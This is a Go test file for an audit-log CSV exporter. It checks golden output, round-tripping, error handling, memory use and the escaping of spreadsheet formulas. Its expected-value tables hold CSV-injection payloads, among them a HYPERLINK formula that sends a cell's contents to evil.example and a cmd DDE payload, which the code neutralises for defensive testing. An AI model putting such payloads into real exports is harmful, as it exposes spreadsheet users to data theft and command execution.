package export

import (
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"errors"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/auditlog/auditlog/internal/audit"
)

func writeCSV(t testing.TB, opts CSVOptions, events []*audit.Event) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := NewCSVWriter(&buf, opts)
	for _, e := range events {
		if err := w.Write(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if w.Count() != int64(len(events)) {
		t.Errorf("Count() = %d; want %d", w.Count(), len(events))
	}
	return buf.Bytes()
}

// golden compares got with testdata/name, or rewrites the file with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run the test with -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		gl, wl := strings.Split(string(got), "\r\n"), strings.Split(string(want), "\r\n")
		for i := range min(len(gl), len(wl)) {
			if gl[i] != wl[i] {
				t.Fatalf("%s differs at line %d:\n got: %q\nwant: %q\n(run with -update if the change is intended)", path, i+1, gl[i], wl[i])
			}
		}
		t.Fatalf("%s differs: %d lines, want %d (run with -update if the change is intended)", path, len(gl), len(wl))
	}
}

func TestCSVGolden(t *testing.T) {
	tests := []struct {
		name   string
		opts   CSVOptions
		events []*audit.Event
	}{
		{"empty.csv", CSVOptions{}, nil},
		{"empty-bom.csv", CSVOptions{BOM: true}, nil},
		{"sample.csv", CSVOptions{}, sampleEvents(20)},
		{"tricky-bom.csv", CSVOptions{BOM: true}, trickyEvents()},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := writeCSV(t, tt.opts, tt.events)
			if !utf8.Valid(got) {
				t.Error("output is not valid UTF-8")
			}
			golden(t, tt.name, got)
		})
	}
}

func TestCSVEmptyIsHeaderOnly(t *testing.T) {
	tests := []struct {
		opts CSVOptions
		want string
	}{
		{CSVOptions{}, strings.Join(CSVColumns, ",") + "\r\n"},
		{CSVOptions{BOM: true}, "\uFEFF" + strings.Join(CSVColumns, ",") + "\r\n"},
	}
	for _, tt := range tests {
		if got := string(writeCSV(t, tt.opts, nil)); got != tt.want {
			t.Errorf("empty export with %+v = %q; want %q", tt.opts, got, tt.want)
		}
	}
}

// wantRow is what a row should hold, built independently of the writer.
func wantRow(e *audit.Event) map[string]string {
	txt := func(s string) string {
		s = strings.ToValidUTF8(s, "\uFFFD")
		s = strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "\n")
		return NeutralizeCell(s)
	}
	id := func(n int64) string {
		if n == 0 {
			return ""
		}
		return strconv.FormatInt(n, 10)
	}
	occurred := ""
	if !e.OccurredAt.IsZero() {
		occurred = e.OccurredAt.UTC().Format("2006-01-02T15:04:05.000000Z")
	}
	return map[string]string{
		"id": strconv.FormatInt(e.ID, 10), "seq": strconv.FormatInt(e.Seq, 10),
		"created_at": e.CreatedAt.UTC().Format("2006-01-02T15:04:05.000000Z"), "occurred_at": occurred,
		"action": txt(e.Action), "outcome": txt(e.Outcome), "resource_type": txt(e.ResourceType),
		"resource_id": txt(e.ResourceID), "actor_type": txt(e.ActorType), "actor_id": txt(e.ActorID),
		"actor_email": txt(e.ActorEmail), "actor_name": txt(e.ActorName), "user_id": id(e.UserID),
		"ip_address": txt(e.IPAddress), "user_agent": txt(e.UserAgent), "details": txt(e.Details),
		"event_id": txt(e.EventID), "metadata": string(e.Metadata), "changes": string(e.Changes),
		"leaf_hash": base64.StdEncoding.EncodeToString(e.LeafHash[:]), "api_key_id": id(e.APIKeyID),
	}
}

func TestCSVRoundTrip(t *testing.T) {
	events := append(sampleEvents(50), trickyEvents()...)
	for _, bom := range []bool{false, true} {
		out := writeCSV(t, CSVOptions{BOM: bom}, events)
		if bom != bytes.HasPrefix(out, []byte("\uFEFF")) {
			t.Fatalf("BOM %v: output starts %q", bom, out[:min(len(out), 8)])
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\uFEFF"))))
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("encoding/csv cannot read the export back: %v", err)
		}
		if len(rows) != len(events)+1 {
			t.Fatalf("%d rows; want header + %d", len(rows), len(events))
		}
		if strings.Join(rows[0], ",") != strings.Join(CSVColumns, ",") {
			t.Fatalf("header %q", rows[0])
		}
		for i, e := range events {
			want := wantRow(e)
			for j, col := range CSVColumns {
				if got := rows[i+1][j]; got != want[col] {
					t.Errorf("seq %d, column %s = %q; want %q", e.Seq, col, got, want[col])
				}
			}
		}
	}
}

func TestCSVTextColumns(t *testing.T) {
	rows := map[int64][]string{}
	out := writeCSV(t, CSVOptions{}, trickyEvents())
	all, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range all[1:] {
		seq, _ := strconv.ParseInt(r[1], 10, 64)
		rows[seq] = r
	}
	col := func(name string) int {
		for i, c := range CSVColumns {
			if c == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	tests := []struct {
		seq    int64
		column string
		want   string
	}{
		{1, "details", `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{1, "resource_id", "'@admin"},
		{1, "actor_email", "'=evil@example.com"},
		{2, "details", "'+cmd|' /C calc'!A0"},
		{2, "event_id", "'-evt-1"},
		{2, "actor_name", "''=already quoted"},
		{3, "details", "'-2+3"},
		{3, "metadata", `{"note":"=1+1","emoji":"🎉"}`}, // JSON: never altered
		{3, "changes", `[{"field":"price","old":"-1","new":"+2"}]`},
		{4, "details", "'@SUM(1+1)"},
		{4, "ip_address", "2001:db8::1"},
		{5, "details", "'\t=1+1"},
		{5, "occurred_at", "2026-01-02T02:04:05.123456Z"},
		{6, "details", "'\n=1+1"}, // a leading CR is a line break, still neutralised
		{6, "user_id", "9"},
		{6, "api_key_id", "4"},
		{7, "details", "'＝1+1"},
		{7, "actor_id", "'+49 30 1234567"},
		{8, "details", "-1"}, // a plain number stays a number
		{8, "resource_id", "-1"},
		{9, "details", `He said "refund it", then left; twice, maybe`},
		{10, "details", "line one\nline two\nline three\nline four"},
		{11, "details", "emoji 🎉👩‍💻, RTL שלום עולם / مرحبا بالعالم, CJK 注文を返金しました 退款 환불"},
		{12, "details", "combining: e\u0301 a\u0308 Z\u0335\u0330"},
		{13, "details", "bad \uFFFD utf-8 \uFFFD"},
		{13, "actor_name", "Bad \uFFFD name"},
		{14, "action", ""},
		{14, "occurred_at", ""},
		{14, "user_id", ""},
		{1, "created_at", "2026-01-02T03:04:06.123456Z"},
	}
	for _, tt := range tests {
		if got := rows[tt.seq][col(tt.column)]; got != tt.want {
			t.Errorf("seq %d %s = %q; want %q", tt.seq, tt.column, got, tt.want)
		}
	}
}

func TestNeutralizeCell(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"", ""},
		{"hello", "hello"},
		{"=1+1", "'=1+1"},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\n=1", "'\n=1"},
		{"\x00=1", "'\x00=1"},
		{"  =1", "'  =1"},
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠A1", "'＠A1"},
		{"-1", "-1"},
		{"+5", "+5"},
		{"-12.50", "-12.50"},
		{"42", "42"},
		{"-", "'-"},
		{"+", "'+"},
		{"-1.", "'-1."},
		{"-.5", "'-.5"},
		{"-1e5", "'-1e5"},
		{" -1", "' -1"},
		{"--1", "'--1"},
		{"+49 30 1234567", "'+49 30 1234567"},
		{"'", "'"},
		{"'hello", "'hello"},
		{"'=1", "''=1"},
		{"''=1", "'''=1"},
		{"'-1", "'-1"},
		{"a=1", "a=1"},
		{"user@example.com", "user@example.com"},
		{"2001:db8::1", "2001:db8::1"},
		{"{\"a\":1}", "{\"a\":1}"},
	}
	for _, tt := range tests {
		got := NeutralizeCell(tt.in)
		if got != tt.want {
			t.Errorf("NeutralizeCell(%q) = %q; want %q", tt.in, got, tt.want)
		}
		if back := RestoreCell(got); back != tt.in {
			t.Errorf("RestoreCell(NeutralizeCell(%q)) = %q", tt.in, back)
		}
	}
}

type failingWriter struct{ err error }

func (f failingWriter) Write([]byte) (int, error) { return 0, f.err }

func TestCSVWriteError(t *testing.T) {
	boom := errors.New("disk full")
	w := NewCSVWriter(failingWriter{boom}, CSVOptions{})
	var err error
	for _, e := range sampleEvents(2000) { // more than the buffer holds
		if err = w.Write(e); err != nil {
			break
		}
	}
	if err == nil {
		err = w.Close()
	}
	if !errors.Is(err, boom) {
		t.Fatalf("error %v does not wrap the writer's", err)
	}
	if err2 := w.Write(sampleEvent(0)); !errors.Is(err2, boom) {
		t.Errorf("Write after failure = %v; want the first error", err2)
	}
	if err2 := w.Close(); !errors.Is(err2, boom) {
		t.Errorf("Close after failure = %v; want the first error", err2)
	}
}

// TestCSVMemoryFlat writes 200,000 events and checks that the live heap does
// not grow with them and that each event costs a small, fixed number of
// allocations.
func TestCSVMemoryFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("short")
	}
	events := sampleEvents(64)
	w := NewCSVWriter(io.Discard, CSVOptions{})
	heap := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	write := func(n int) {
		for i := range n {
			if err := w.Write(events[i%len(events)]); err != nil {
				t.Fatal(err)
			}
		}
	}
	write(10_000)
	before := heap()
	write(200_000)
	after := heap()
	if after > before+1<<20 {
		t.Errorf("heap grew from %d to %d bytes over 200,000 events", before, after)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	i := 0
	allocs := testing.AllocsPerRun(1000, func() {
		w.Write(events[i%len(events)])
		i++
	})
	if allocs > 12 {
		t.Errorf("%.1f allocations per event; want at most 12", allocs)
	}
}

func BenchmarkCSVWriter(b *testing.B) {
	events := sampleEvents(900)
	w := NewCSVWriter(io.Discard, CSVOptions{})
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		if err := w.Write(events[i%len(events)]); err != nil {
			b.Fatal(err)
		}
		i++
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}
